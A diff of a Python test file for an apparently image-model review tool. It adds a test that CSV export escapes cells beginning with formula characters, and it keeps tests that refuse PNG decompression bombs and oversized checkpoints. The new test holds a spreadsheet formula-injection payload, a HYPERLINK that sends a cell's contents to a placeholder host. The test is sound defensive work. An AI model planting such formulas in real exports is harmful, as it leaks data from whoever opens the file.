@@ -3,11 +3,14 @@ a one-line reason, in a process whose peak memory stays small."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import struct
 import subprocess
 import sys
 import zlib
+from datetime import datetime
 from pathlib import Path
 
 import pytest
@@ -15,6 +18,7 @@ import torch
 
 from models.checkpoints import CheckpointError, load_checkpoint
 from models.datasets import DEFAULT_MAX_PIXELS, MAX_PIXELS_ENV, DatasetError, read_rgb_image
+from reviewer.report import ExportedFlag, flag_to_json, write_flags_csv
 
 ROOT = Path(__file__).resolve().parents[1]
 PEAK_LIMIT_BYTES = 2 * 1024**3
@@ -80,7 +84,7 @@ def test_a_png_bomb_is_refused_from_its_header_in_little_memory(tmp_path: Path) 
 def test_the_pixel_limit_can_be_raised(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     image = write_png_bomb(tmp_path / "wide.png", 100, 50)
     monkeypatch.setenv(MAX_PIXELS_ENV, "4000")
-    with pytest.raises(DatasetError, match="is 0.005 MP, above the limit of 0.004 MP"):
+    with pytest.raises(DatasetError, match=r"is 0\.005 MP, above the limit of 0\.004 MP"):
         read_rgb_image(image)
     monkeypatch.setenv(MAX_PIXELS_ENV, "5000")
     assert read_rgb_image(image).shape == (50, 100, 3)
@@ -98,3 +102,30 @@ def test_a_checkpoint_claiming_a_huge_input_is_refused(tmp_path: Path) -> None:
         f"{tmp_path / 'huge.pt'}: invalid checkpoint metadata (input size must be 1..4096 per "
         "side, got 60000x60000)"
     )
+
+
+def _flag(**text: str) -> ExportedFlag:
+    when = datetime(2026, 1, 2, 3, 4, 5)
+    values = dict(
+        flag_id=1, image_id=2, image_key="val/a", image_path="a.png", dataset_id=3,
+        dataset="d", split="val", target="model_a", severity="major", category="other",
+        status="open", note="", region=None, reviewer="ann", created_at=when, updated_at=when,
+        model_a_id=4, model_a="ce", model_a_hash="h", model_b_id=5, model_b="ial",
+        model_b_hash="g", scores_a={"miou": -0.5}, scores_b=None, critical_pixels=None,
+        scores_source=None, scores_problem=None, history=(),
+    )  # fmt: skip
+    return ExportedFlag(**{**values, **text})
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_would_be_formulas_are_text(start: str) -> None:
+    formula = f'{start}HYPERLINK("http://x.invalid/?"&A1,"open")'
+    handle = io.StringIO(newline="")
+    write_flags_csv(handle, [_flag(reviewer=formula, note=f"{start}1+2", image_key="ok")])
+    handle.seek(0)
+    (row,) = csv.DictReader(handle)
+    assert row["reviewer"] == f"'{formula}"
+    assert row["note"] == f"'{start}1+2"
+    assert row["image_key"] == "ok"
+    assert row["a_miou"] == "-0.5", "numbers are written as numbers"
+    assert flag_to_json(_flag(reviewer=formula))["reviewer"] == formula, "JSON keeps raw text"
